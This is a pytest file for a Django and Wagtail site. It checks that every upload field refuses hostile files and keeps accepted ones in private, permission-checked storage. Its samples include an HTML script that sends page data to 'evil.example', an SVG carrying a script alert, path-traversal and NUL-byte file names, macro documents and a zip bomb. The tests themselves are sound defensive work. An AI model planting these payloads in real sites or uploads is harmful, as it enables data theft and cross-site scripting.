"""R9 for every upload field of the product, end to end through its real view.

Each field has one test function, parametrized over the same table of cases (``CASES``): hostile
files are refused with the validator's translated reason and leave nothing behind, while what was
typed in the other fields is shown again; real PDF, DOCX, ODT, JPEG and PNG files are accepted
where the field takes that kind (elsewhere refused for their extension), stored under a generated
name in private storage, and downloaded only through a permission-checked view as an attachment
with ``nosniff`` (another person gets 404, the public media URL gets 404).

Requests are built as raw multipart bodies, so that file names reach Django's parser exactly as a
hostile client would send them (the test client would strip paths itself). Django's parser drops
the folders of a name and its control characters before any view sees it: a path is therefore not
refused but neutralized (the file is kept under a generated name), and a NUL byte hiding an
extension (``cv.exe\\0.pdf``) arrives as ``cv.exe.pdf`` and is refused for its two extensions.

``test_every_file_field_is_covered`` fails when a model gains a file field that is not in
``UPLOAD_FIELDS`` (tested here) or ``NOT_UPLOADED`` (with the reason).

Sample builders come from tests/cohorts/test_uploads.py.
"""

from __future__ import annotations

import dataclasses
import functools
import hashlib
import html
import os
import re
from collections.abc import Callable

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from aslp_site.core.uploads import ALL_KINDS, DOCUMENTS, IMAGES, KINDS, MB, check_upload
from assessments.models import CERTIFICATE_IMAGE_MAX_SIZE, ResourceStatus, SubmissionFile
from cohorts.forms.application import ANSWER_FILE_KINDS, CV_KINDS, LETTER_KINDS
from cohorts.models import (
    ApplicationFile,
    ApplicationQuestion,
    ApplicationStatus,
    FileKind,
    QuestionKind,
    Role,
)
from tests.assessments.certificate_world import make_template
from tests.assessments.test_assignments import make_assignment
from tests.assessments.test_assignments import url as assignment_url
from tests.assessments.test_certificate_admin import _template_post
from tests.assessments.test_library_public import make_resource
from tests.cohorts import factories as cf
from tests.cohorts.applying import files_on_disk, private_dir_fixture  # noqa: F401 (fixture)
from tests.cohorts.factories import MINIMAL_PDF
from tests.cohorts.test_uploads import LINUX_PROGRAM, WINDOWS_PROGRAM, docx, odt, picture
from tests.trainings import factories as tf
from tests.trainings.test_dissemination import form_data as report_form_data
from tests.trainings.test_dissemination import new_url as report_url
from tests.trainings.test_dissemination import started_cohort
from trainings.models import DisseminationEvidence, DisseminationReport

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _staff_without_mfa(settings):
    """Organizers and superusers reach the admin without an authenticator app here."""
    settings.REQUIRE_STAFF_MFA = False


# -- Samples ----------------------------------------------------------------------------------

HTML_WITH_SCRIPT = (
    b"<!DOCTYPE html><html><body><script>fetch('/my-data/').then(r => r.text())"
    b".then(t => navigator.sendBeacon('https://evil.example/', t))</script></body></html>"
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
VBA_PROJECT = ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64)


@functools.cache
def sample(kind: str) -> bytes:
    """A real, small file of an accepted kind."""
    return {
        "pdf": lambda: MINIMAL_PDF,
        "docx": docx,
        "odt": odt,
        "jpeg": lambda: picture("JPEG"),
        "png": lambda: picture("PNG"),
    }[kind]()


@functools.cache
def zip_bomb() -> bytes:
    """A DOCX whose 20 MB of zeros pack into a few dozen KB."""
    return docx(("word/media/padding.bin", b"\0" * (20 * MB)))


def oversized(kind: str, limit: int) -> bytes:
    """A real file of the kind, padded one byte past the limit."""
    head = sample(kind)
    return head + b"\0" * (limit + 1 - len(head))


# -- The cases --------------------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Case:
    """One upload sent to every field.

    ``name`` may hold ``{ext}``: the first extension of the field's first kind; ``content`` gets
    that kind and the field's size limit. ``code`` is the validator's refusal code, or None when
    the file must be accepted. ``needs``: the kind the case is about; a field that does not take
    that kind refuses the file for its extension instead. ``arrives_as``: the name Django's parser
    hands to the view, when it differs from the one sent.
    """

    id: str
    name: str
    content: Callable[[str, int], bytes]
    code: str | None
    needs: str | None = None
    arrives_as: str | None = None


CASES = [
    # Refused.
    Case("exe-renamed-pdf", "cv.{ext}", lambda k, n: WINDOWS_PROGRAM, "executable"),
    Case("elf-renamed-pdf", "cv.{ext}", lambda k, n: LINUX_PROGRAM, "executable"),
    Case("double-extension-exe", "cv.{ext}.exe", lambda k, n: sample(k), "double_extension"),
    Case("double-extension-php", "cv.php.{ext}", lambda k, n: sample(k), "double_extension"),
    Case(
        "nul-hiding-an-extension",
        "cv.exe\x00.{ext}",
        lambda k, n: sample(k),
        "double_extension",
        arrives_as="cv.exe.{ext}",
    ),
    Case("name-of-300-characters", "n" * 296 + ".{ext}", lambda k, n: sample(k), "name_too_long"),
    Case("html-with-script", "cv.{ext}", lambda k, n: HTML_WITH_SCRIPT, "markup"),
    Case("svg-with-script", "cv.{ext}", lambda k, n: SVG_WITH_SCRIPT, "markup"),
    Case("svg-extension", "drawing.svg", lambda k, n: SVG_WITH_SCRIPT, "extension"),
    Case("html-extension", "page.html", lambda k, n: HTML_WITH_SCRIPT, "extension"),
    Case(
        "mismatched-magic-bytes",
        "cv.{ext}",
        lambda k, n: sample("png" if k in DOCUMENTS else "pdf"),
        "mismatch",
    ),
    Case("macro-docm", "cv.docm", lambda k, n: docx(VBA_PROJECT), "extension"),
    Case("macro-vba-project-in-docx", "cv.docx", lambda k, n: docx(VBA_PROJECT), "macro", "docx"),
    Case("zip-bomb", "cv.docx", lambda k, n: zip_bomb(), "zip_bomb", "docx"),
    Case("over-the-size-limit", "cv.{ext}", oversized, "too_large"),
    Case("empty-file", "cv.{ext}", lambda k, n: b"", "empty"),
    # Neutralized by Django's parser, then accepted under a generated name.
    Case(
        "path-in-name",
        "../../../private/cv.{ext}",
        lambda k, n: sample(k),
        None,
        arrives_as="cv.{ext}",
    ),
    Case("nul-in-name", "cv\x00.{ext}", lambda k, n: sample(k), None, arrives_as="cv.{ext}"),
    # Real files of each kind.
    *[
        Case(f"real-{kind}", f"report.{KINDS[kind].extensions[0]}", lambda k, n, c=kind: sample(c),
             None, kind)
        for kind in ALL_KINDS
    ],
]  # fmt: skip
CASE_IDS = [case.id for case in CASES]


@dataclasses.dataclass(frozen=True)
class Sent:
    """A case as applied to one field: what is sent and what must come of it."""

    name: str  # as sent
    arrives_as: str  # as the view gets it (Django's parser and UploadedFile applied)
    content: bytes
    kind: str | None  # the accepted kind, when accepted
    reason: str | None  # the refusal, as the validator words it


def resolve(case: Case, kinds, limit: int) -> Sent:
    first = kinds[0]
    extension = KINDS[first].extensions[0]
    name = case.name.format(ext=extension)
    content = case.content(first, limit)
    arrives = (case.arrives_as or case.name).format(ext=extension)
    arrives = SimpleUploadedFile(arrives, b"").name  # cut to 255 characters, as Django does
    code = case.code
    suffix = arrives.rsplit(".", 1)[-1].lower()
    taken = [k for k in kinds if suffix in KINDS[k].extensions]
    if (case.needs and case.needs not in kinds) or (code is None and not taken):
        code = "extension"
    if code is None:
        checked = check_upload(SimpleUploadedFile(arrives, content), kinds, max_size=limit)
        return Sent(name, arrives, content, checked.kind, None)
    with pytest.raises(ValidationError) as caught:
        check_upload(SimpleUploadedFile(arrives, content), kinds, max_size=limit)
    assert caught.value.code == code, (case.id, caught.value.messages)
    return Sent(name, arrives, content, None, caught.value.messages[0])


cases = pytest.mark.parametrize("case", CASES, ids=CASE_IDS)


# -- Sending raw multipart bodies ---------------------------------------------------------------

BOUNDARY = "aslp-hostile-upload-boundary"


def post_multipart(client, url: str, fields: dict, files: list[tuple[str, str, bytes]]):
    """POST ``fields`` (a value or a list of values each) and ``files`` (field, name, bytes)
    with the file names written into the body exactly as given."""
    parts = []
    for key, value in fields.items():
        for item in value if isinstance(value, list | tuple) else [value]:
            header = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'
            parts.append(header.encode() + str(item).encode() + b"\r\n")
    for key, filename, content in files:
        header = (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"; '
            f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'
        )
        parts.append(header.encode() + content + b"\r\n")
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return client.generic(
        "POST",
        url,
        b"".join(parts),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )


# -- Shared checks ----------------------------------------------------------------------------


def assert_stored_privately(stored, sent: Sent, folder: str, private_dir):
    """Kept with the name as given for display only, under a generated name, in private
    storage, with the right hash; never reachable under the public media URL."""
    extension = "." + sent.arrives_as.rsplit(".", 1)[-1].lower()
    assert stored.original_name == sent.arrives_as
    assert re.fullmatch(rf"{folder}/[0-9a-f]{{32}}{re.escape(extension)}", stored.file.name), (
        stored.file.name
    )
    assert stored.sha256 == hashlib.sha256(sent.content).hexdigest()
    assert stored.content_type == KINDS[sent.kind].content_type
    path = os.path.realpath(stored.file.path)
    assert path.startswith(os.path.realpath(private_dir) + os.sep)
    assert not path.startswith(os.path.realpath(django_settings.MEDIA_ROOT) + os.sep)
    with open(path, "rb") as handle:
        assert handle.read() == sent.content


def assert_private_download(client, url: str, owner, stranger, stored, sent: Sent):
    client.force_login(owner)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{sent.arrives_as}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == KINDS[sent.kind].content_type
    assert b"".join(response.streaming_content) == sent.content
    assert client.get(f"{django_settings.MEDIA_URL}{stored.file.name}").status_code == 404
    client.force_login(stranger)
    assert client.get(url).status_code == 404


def assert_reason_shown(response, sent: Sent, *, named: bool = False):
    """The validator's reason is on the page (named after the file for multi-file fields)."""
    reason = f"“{sent.arrives_as}” was not accepted: {sent.reason}" if named else sent.reason
    assert html.escape(reason) in response.content.decode()
    return reason


# -- The application: CV, endorsement letter, file answers --------------------------------------


def _application_upload(client, private_dir, case, field: str, kinds, kind_of_row: str):
    cohort = cf.cohort("uploads")
    question = None
    if field == "question":
        question = ApplicationQuestion.objects.create(
            cohort=cohort, kind=QuestionKind.FILE, label="Your school's development plan"
        )
        field = f"question_{question.pk}"
    applicant = cf.user("applicant@example.org")
    client.force_login(applicant)
    sent = resolve(case, kinds, 10 * MB)
    before = files_on_disk(private_dir)
    typed = {
        "action": "save",
        "family_name": "Nguyen",
        "motivation": "Typed before the upload and kept after it.",
    }
    response = post_multipart(
        client, f"/apply/{cohort.slug}/", typed, [(field, sent.name, sent.content)]
    )
    application = cohort.applications.get()
    # What was typed is saved as a draft whatever happens to the file.
    assert (application.family_name, application.motivation) == (
        "Nguyen",
        "Typed before the upload and kept after it.",
    )
    if sent.reason is not None:
        assert response.status_code == 200
        assert response.context["form"].errors[field] == [sent.reason]
        assert_reason_shown(response, sent)
        page = response.content.decode()
        assert 'value="Nguyen"' in page
        assert "Typed before the upload and kept after it." in page
        assert ApplicationFile.objects.count() == 0
        assert files_on_disk(private_dir) == before
        return
    assert response.status_code == 302
    stored = ApplicationFile.objects.get()
    assert (stored.application, stored.kind, stored.question) == (
        application,
        kind_of_row,
        question,
    )
    assert_stored_privately(stored, sent, f"applications/{cohort.pk}", private_dir)
    stranger = cf.user("other-applicant@example.org")
    cf.application(cohort, stranger, status=ApplicationStatus.DRAFT)
    download = reverse("cohorts:download_file", kwargs={"pk": stored.pk})
    assert_private_download(client, download, applicant, stranger, stored, sent)


@cases
def test_application_cv(client, private_dir, case):
    _application_upload(client, private_dir, case, "cv", CV_KINDS, FileKind.CV)


@cases
def test_application_endorsement_letter(client, private_dir, case):
    _application_upload(
        client, private_dir, case, "endorsement_letter", LETTER_KINDS, FileKind.ENDORSEMENT_LETTER
    )


@cases
def test_application_file_answer(client, private_dir, case):
    _application_upload(client, private_dir, case, "question", ANSWER_FILE_KINDS, FileKind.ANSWER)


# -- Dissemination evidence -----------------------------------------------------------------------


@cases
def test_dissemination_evidence(client, private_dir, case):
    cohort = started_cohort("uploads-reach")
    owner = tf.participant(cohort, "reporter@example.org")
    client.force_login(owner.user)
    sent = resolve(case, ALL_KINDS, 10 * MB)
    typed = report_form_data(audience="Typed audience, kept")
    before = files_on_disk(private_dir)
    response = post_multipart(
        client, report_url(cohort), typed, [("evidence", sent.name, sent.content)]
    )
    if sent.reason is not None:
        assert response.status_code == 400
        reason = assert_reason_shown(response, sent, named=True)
        assert response.context["form"].errors["evidence"][0] == reason
        assert 'value="Typed audience, kept"' in response.content.decode()
        assert not DisseminationReport.objects.exists()
        assert not DisseminationEvidence.objects.exists()
        assert files_on_disk(private_dir) == before
        return
    assert response.status_code == 302
    stored = DisseminationEvidence.objects.get()
    assert stored.report.participant == owner
    assert_stored_privately(stored, sent, f"dissemination/{cohort.pk}", private_dir)
    stranger = tf.participant(cohort, "other-reporter@example.org")
    download = reverse("trainings:evidence", kwargs={"pk": stored.pk})
    assert_private_download(client, download, owner.user, stranger.user, stored, sent)


# -- Assignment submissions and the resource library ------------------------------------------


@cases
def test_assignment_submission_files(client, private_dir, case):
    cohort = tf.cohort("uploads-assign")
    owner = tf.participant(cohort, "author@example.org")
    task = make_assignment(cohort, file_kinds=list(ALL_KINDS), max_file_mb=3)
    client.force_login(owner.user)
    sent = resolve(case, ALL_KINDS, 3 * MB)
    before = files_on_disk(private_dir)
    response = post_multipart(
        client,
        assignment_url(task),
        {"text": "Typed text, kept on refusal."},
        [("files", sent.name, sent.content)],
    )
    if sent.reason is not None:
        assert response.status_code == 400
        reason = assert_reason_shown(response, sent, named=True)
        assert response.context["form"].errors["files"][0] == reason
        assert "Typed text, kept on refusal." in response.content.decode()
        assert not SubmissionFile.objects.exists()
        assert files_on_disk(private_dir) == before
        return
    assert response.status_code == 302
    stored = SubmissionFile.objects.get()
    assert stored.version.submission.participant == owner
    assert_stored_privately(stored, sent, f"submissions/{task.pk}", private_dir)
    stranger = tf.participant(cohort, "other-author@example.org")
    download = reverse("assessments:submission_file", kwargs={"pk": stored.pk})
    assert_private_download(client, download, owner.user, stranger.user, stored, sent)


@pytest.mark.parametrize("kind", ALL_KINDS)
@pytest.mark.parametrize(
    "status", [ResourceStatus.PUBLISHED, ResourceStatus.PREPARING, ResourceStatus.WITHDRAWN]
)
def test_library_resource_files(client, private_dir, kind, status):
    """Library files are submitted files (checked above) that a published resource names:
    anyone downloads them as attachments; unpublished ones, and other files of the same
    submission, answer 404."""
    cohort = tf.cohort("uploads-library")
    task = make_assignment(cohort, file_kinds=list(ALL_KINDS))
    resource = make_resource(task, status=status, files=1)
    content = sample(kind)
    name = f"plan.{KINDS[kind].extensions[0]}"
    hidden = make_resource(task, status=ResourceStatus.PREPARING, files=1).files.get()
    published = resource.files.get()
    # The same submission's other file is not published with the resource.
    stored = SubmissionFile(version=published.version)
    stored.original_name = name
    stored.file.save(name, SimpleUploadedFile(name, content), save=False)
    stored.content_type = KINDS[kind].content_type
    stored.size = len(content)
    stored.sha256 = hashlib.sha256(content).hexdigest()
    stored.save()
    resource.files.add(stored)

    def url(file):
        return reverse(
            "assessments:library_file", kwargs={"resource": resource.pk, "file": file.pk}
        )

    response = client.get(url(stored))
    if status != ResourceStatus.PUBLISHED:
        assert response.status_code == 404
        return
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == KINDS[kind].content_type
    assert b"".join(response.streaming_content) == content
    assert client.get(url(hidden)).status_code == 404
    assert client.get(f"{django_settings.MEDIA_URL}{stored.file.name}").status_code == 404


# -- Certificate template images (admin): logo, second logo, signature ----------------------------


def _certificate_image(client, private_dir, case, field: str):
    cohort = tf.cohort("uploads-certificates")
    template = make_template(cohort)
    staff = cf.user("certificates@example.org")
    cf.grant(staff, Role.CERTIFICATE_STAFF, cohort)
    client.force_login(staff)
    sent = resolve(case, IMAGES, CERTIFICATE_IMAGE_MAX_SIZE)
    # The model form's own checks come first for these two, in Django's words.
    if case.code == "empty":
        sent = dataclasses.replace(sent, reason="The submitted file is empty.")
    elif case.code == "name_too_long":
        sent = dataclasses.replace(
            sent, reason="Ensure this filename has at most 200 characters (it has 255)."
        )
    data = _template_post(template, issuer="Typed issuer, kept")
    data.pop(field)
    before = files_on_disk(private_dir)
    url = reverse("admin_certificate_templates:edit", args=[template.pk])
    response = post_multipart(client, url, data, [(field, sent.name, sent.content)])
    template.refresh_from_db()
    signatory = template.signatories.get()
    if sent.reason is not None:
        assert response.status_code == 200
        assert_reason_shown(response, sent)
        assert 'value="Typed issuer, kept"' in response.content.decode()
        assert template.issuer == "Institute for Collaborative Education"
        assert not (template.logo or template.second_logo or signatory.signature)
        assert files_on_disk(private_dir) == before
        return
    assert response.status_code == 302, response.content.decode()[:3000]
    image = signatory.signature if field.startswith("signatories-") else getattr(template, field)
    assert image.name.startswith(f"certificate-images/{cohort.pk}/")
    extension = "." + sent.arrives_as.rsplit(".", 1)[-1].lower()
    assert re.fullmatch(
        rf"certificate-images/{cohort.pk}/[0-9a-f]{{32}}{re.escape(extension)}", image.name
    )
    path = os.path.realpath(image.path)
    assert path.startswith(os.path.realpath(private_dir) + os.sep)
    with open(path, "rb") as handle:
        assert handle.read() == sent.content
    # Never given an address: only printed on certificates.
    assert client.get(f"{django_settings.MEDIA_URL}{image.name}").status_code == 404


@cases
def test_certificate_logo(client, private_dir, case):
    _certificate_image(client, private_dir, case, "logo")


@cases
def test_certificate_second_logo(client, private_dir, case):
    _certificate_image(client, private_dir, case, "second_logo")


@cases
def test_certificate_signature(client, private_dir, case):
    _certificate_image(client, private_dir, case, "signatories-0-signature")


# -- Wagtail's own documents and images ------------------------------------------------------------

WAGTAIL_DOCUMENT_CASES = [
    ("html-page", "page.html", HTML_WITH_SCRIPT, "refused"),
    ("svg-drawing", "drawing.svg", SVG_WITH_SCRIPT, "refused"),
    ("windows-program", "setup.exe", WINDOWS_PROGRAM, "refused"),
    ("macro-docm", "plan.docm", docx(VBA_PROJECT), "refused"),
    ("over-the-size-limit", "big.pdf", None, "refused"),
    ("html-renamed-txt", "notes.txt", HTML_WITH_SCRIPT, "text/plain"),
    ("exe-renamed-pdf", "report.pdf", WINDOWS_PROGRAM, "application/pdf"),
    ("real-pdf", "report.pdf", MINIMAL_PDF, "application/pdf"),
]


@pytest.fixture
def media_dir(tmp_path, settings):
    """This test's own public media folder (Wagtail documents and images live there)."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


@pytest.mark.parametrize(
    ("name", "content", "outcome"),
    [case[1:] for case in WAGTAIL_DOCUMENT_CASES],
    ids=[case[0] for case in WAGTAIL_DOCUMENT_CASES],
)
def test_wagtail_documents(client, media_dir, name, content, outcome):
    """Refused for their extension or size; what is accepted (the CMS does not look inside) is
    only ever served through Wagtail's view as an attachment, never sniffed, never run."""
    assert django_settings.WAGTAILDOCS_SERVE_METHOD == "serve_view"
    limit = django_settings.WAGTAILDOCS_MAX_UPLOAD_SIZE
    assert limit == 10 * MB
    content = oversized("pdf", limit) if content is None else content
    client.force_login(cf.user("editor@example.org", is_superuser=True, is_staff=True))
    response = post_multipart(
        client,
        reverse("wagtaildocs:add"),
        {"title": "Typed title, kept", "collection": Collection.get_first_root_node().pk},
        [("file", name, content)],
    )
    Document = get_document_model()
    if outcome == "refused":
        assert response.status_code == 200
        assert response.context["form"].errors["file"]
        assert 'value="Typed title, kept"' in response.content.decode()
        assert not Document.objects.exists()
        return
    assert response.status_code == 302
    document = Document.objects.get()
    client.logout()
    served = client.get(document.url)
    assert document.url == f"/documents/{document.pk}/{name}"
    assert served.status_code == 200
    assert served["Content-Type"].split(";")[0] == outcome
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == "default-src 'none'"
    assert b"".join(served.streaming_content) == content


WAGTAIL_IMAGE_CASES = [
    ("svg-with-script", "drawing.svg", SVG_WITH_SCRIPT),
    ("html-page", "page.html", HTML_WITH_SCRIPT),
    ("html-renamed-png", "photo.png", HTML_WITH_SCRIPT),
    ("svg-renamed-png", "photo.png", SVG_WITH_SCRIPT),
    ("exe-renamed-jpg", "photo.jpg", WINDOWS_PROGRAM),
    ("pdf-renamed-png", "photo.png", MINIMAL_PDF),
    ("over-the-size-limit", "photo.png", None),
    ("empty-file", "photo.png", b""),
    ("real-jpeg", "photo.jpg", "jpeg"),
    ("real-png", "photo.png", "png"),
]


@pytest.mark.parametrize(
    ("name", "content"),
    [case[1:] for case in WAGTAIL_IMAGE_CASES],
    ids=[case[0] for case in WAGTAIL_IMAGE_CASES],
)
def test_wagtail_images(client, media_dir, name, content):
    """Only decodable pictures of the listed kinds are kept (never SVG)."""
    assert "svg" not in django_settings.WAGTAILIMAGES_EXTENSIONS
    real = content in ("jpeg", "png")
    if real:
        content = sample(content)
    elif content is None:
        content = oversized("png", django_settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE)
    client.force_login(cf.user("editor@example.org", is_superuser=True, is_staff=True))
    response = post_multipart(
        client,
        reverse("wagtailimages:add"),
        {"title": "Typed title, kept", "collection": Collection.get_first_root_node().pk},
        [("file", name, content)],
    )
    Image = get_image_model()
    if not real:
        assert response.status_code == 200
        assert response.context["form"].errors["file"]
        assert 'value="Typed title, kept"' in response.content.decode()
        assert not Image.objects.exists()
        return
    assert response.status_code == 302
    image = Image.objects.get()
    assert image.file.read() == content


WAGTAIL_AVATAR_CASES = [
    ("svg-with-script", "me.svg", SVG_WITH_SCRIPT),
    ("html-page", "me.html", HTML_WITH_SCRIPT),
    ("html-renamed-png", "me.png", HTML_WITH_SCRIPT),
    ("exe-renamed-jpg", "me.jpg", WINDOWS_PROGRAM),
    ("pdf-renamed-png", "me.png", MINIMAL_PDF),
    ("real-jpeg", "me.jpg", "jpeg"),
    ("real-png", "me.png", "png"),
]


NOT_A_PICTURE = (
    "Upload a valid image. The file you uploaded was either not an image or a corrupted image."
)


@pytest.mark.parametrize(
    ("name", "content"),
    [case[1:] for case in WAGTAIL_AVATAR_CASES],
    ids=[case[0] for case in WAGTAIL_AVATAR_CASES],
)
def test_wagtail_avatar(client, media_dir, name, content):
    """The admin's profile picture: only pictures Pillow decodes, with a picture's extension."""
    from wagtail.users.models import UserProfile

    real = content in ("jpeg", "png")
    if real:
        content = sample(content)
    editor = cf.user("editor@example.org", is_superuser=True, is_staff=True)
    client.force_login(editor)
    page = client.get(reverse("wagtailadmin_account"))
    data = {}
    for panels in page.context["panels_by_tab"].values():
        for panel in panels:
            form = panel.get_form()
            for field_name in form.fields:
                value = form[field_name].value()
                if field_name == "avatar" or value is None or value is False:
                    continue
                data[form.add_prefix(field_name)] = "on" if value is True else value
    data["name_email-first_name"] = "Typed name, kept"
    data["name_email-last_name"] = "Lee"
    response = post_multipart(
        client, reverse("wagtailadmin_account"), data, [("avatar-avatar", name, content)]
    )
    profile = UserProfile.get_for_user(editor)
    if not real:
        assert response.status_code == 200
        page = response.content.decode()
        # The picture, and only the picture, is refused, with Django's reason.
        assert set(re.findall(r'id="(id_[\w-]+_error)"', page)) == {"id_avatar-avatar_error"}
        assert html.escape(NOT_A_PICTURE) in page
        assert 'value="Typed name, kept"' in page
        assert not profile.avatar
        return
    assert response.status_code == 302, response.content.decode()[:3000]
    assert profile.avatar.name.startswith("avatar_images/avatar_")
    assert profile.avatar.read() == content


# -- Every file field is in one table or the other ----------------------------------------------

UPLOAD_FIELDS = {
    "cohorts.ApplicationFile.file": (
        "test_application_cv",
        "test_application_endorsement_letter",
        "test_application_file_answer",
    ),
    "trainings.DisseminationEvidence.file": ("test_dissemination_evidence",),
    "assessments.SubmissionFile.file": (
        "test_assignment_submission_files",
        "test_library_resource_files",
    ),
    "assessments.CertificateTemplate.logo": ("test_certificate_logo",),
    "assessments.CertificateTemplate.second_logo": ("test_certificate_second_logo",),
    "assessments.CertificateSignatory.signature": ("test_certificate_signature",),
    "wagtaildocs.Document.file": ("test_wagtail_documents",),
    "wagtailimages.Image.file": ("test_wagtail_images",),
    "wagtailusers.UserProfile.avatar": ("test_wagtail_avatar",),
}
NOT_UPLOADED = {
    "assessments.Certificate.pdf": "made by the project when a certificate is issued",
    "wagtailimages.Rendition.file": "made by Wagtail from an accepted image",
    "wagtailcore.UploadedFile.file": (
        "Wagtail's holding place for an image or document uploaded from the multiple-upload "
        "screen, checked by the same forms as test_wagtail_documents and test_wagtail_images"
    ),
}


def test_every_file_field_is_covered():
    found = {
        f"{model._meta.label}.{field.name}"
        for model in apps.get_models(include_auto_created=True)
        for field in model._meta.get_fields()
        if isinstance(field, models.FileField)
    }
    assert found == set(UPLOAD_FIELDS) | set(NOT_UPLOADED), (
        "A file field was added or removed: add it to UPLOAD_FIELDS with a test through its "
        "view, or to NOT_UPLOADED with the reason."
    )
    for names in UPLOAD_FIELDS.values():
        for name in names:
            assert callable(globals().get(name)), name
